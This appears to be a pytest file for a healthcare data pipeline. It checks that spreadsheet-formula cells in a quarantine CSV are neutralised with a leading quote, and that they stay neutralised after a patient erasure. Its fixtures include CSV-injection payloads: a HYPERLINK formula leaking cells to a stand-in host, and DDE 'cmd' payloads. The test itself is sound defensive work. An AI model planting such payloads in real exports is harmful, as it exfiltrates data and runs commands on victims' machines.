"""Files a spreadsheet opens: quarantine cells that are formulas are written quoted, and stay
quoted after an erasure rewrites the file."""

import csv

from healthcare_assets_tests.fixtures.gdpr import cli, export_with_quarantined_row
from healthcare_assets_tests.fixtures.runs import check_results, materialize, materialized

LEAK = '=HYPERLINK("http://x.example?leak="&B3&C3,"x")'
# (column -> raw cell) of rows that go to quarantine, each with the reason its first broken rule gives
HOSTILE = [
    ({"Name": LEAK, "Hospital": "+cmd|' /C calc'!A0", "Age": "@SUM(1+1)", "Billing Amount": "-1234.5"},
     "Age: not a whole number (got '@SUM(1+1)')"),
    ({"Name": "-2+3+cmd|' /C calc'!A0", "Hospital": "\t=1+1", "Billing Amount": "=1+1"},
     "Billing Amount: not a number (got '=1+1')"),
    ({"Doctor": "\r@x", "Medication": "-x"},
     "Medication: not one of ['Aspirin', 'Ibuprofen', 'Lipitor', 'Paracetamol', 'Penicillin'] (got '-x')"),
]


def quarantine_cells(path) -> list[dict[str, str]]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def test_quarantine_cells_a_spreadsheet_would_run_are_quoted_and_stay_quoted_after_an_erasure(
        mongo, data_dir, small_csv, tmp_path):
    source = tmp_path / "hostile.csv"
    patient = export_with_quarantined_row(small_csv, source)  # a patient with a quarantined row, to erase
    with open(source, newline="") as f:
        header, *rows = list(csv.reader(f))
    for n, (cells, _) in enumerate(HOSTILE):
        rows.append([cells.get(column, value) for column, value in zip(header, rows[20 + n], strict=True)])
    with open(source, "w", newline="") as f:
        csv.writer(f).writerows([header, *rows])  # CRLF, so that the cell holding a CR is quoted
    first_hostile_line = len(rows) - len(HOSTILE) + 2  # the header is line 1
    result = materialize(source, mongo)
    assert result.success, [check for check, passed in check_results(result).items() if not passed]
    path = materialized(result)["cleaned_frame"]["quarantine_file"]

    def assert_neutralized(found):
        hostile = {int(r["line_number"]): r for r in found if int(r["line_number"]) >= first_hostile_line}
        assert sorted(hostile) == [first_hostile_line + n for n in range(len(HOSTILE))]
        for n, (cells, reason) in enumerate(HOSTILE):
            row = hostile[first_hostile_line + n]
            assert row["reason"] == reason  # intact: it starts with a column's name
            for column, raw in cells.items():
                expected = raw if column == "Billing Amount" and raw == "-1234.5" else "'" + raw  # a number stays
                assert row[column] == expected, (column, row[column])

    written = quarantine_cells(path)
    assert len(written) == 1 + len(HOSTILE)
    assert_neutralized(written)

    # a quarantine file an older version wrote, cells verbatim: erasure rewrites it neutralized
    with open(path, "w", newline="") as f:
        verbatim = csv.DictWriter(f, fieldnames=list(written[0]))  # CRLF: the cell with a CR quoted
        verbatim.writeheader()
        verbatim.writerows([{k: v.removeprefix("'") for k, v in row.items()} for row in written])
    erased = cli("erase-patient", "--name", patient[0], "--gender", patient[2], "--blood-type", patient[3], "--all",
                 "--yes", mongo=mongo, data_dir=data_dir)
    assert erased.returncode == 0, erased.stderr
    assert "removed      1  quarantine_rows" in erased.stdout
    rewritten = quarantine_cells(path)
    assert len(rewritten) == len(HOSTILE)
    assert_neutralized(rewritten)

    # a patient whose name is a formula is found in quarantine as the source named them, and erased
    leaked = rows[-len(HOSTILE)]
    erased = cli("erase-patient", f"--name={LEAK}", "--gender", leaked[header.index("Gender")], "--blood-type",
                 leaked[header.index("Blood Type")], "--all", "--yes", mongo=mongo, data_dir=data_dir)
    assert erased.returncode == 0, erased.stderr
    assert "removed      1  quarantine_rows" in erased.stdout, erased.stdout
    assert len(quarantine_cells(path)) == len(HOSTILE) - 1
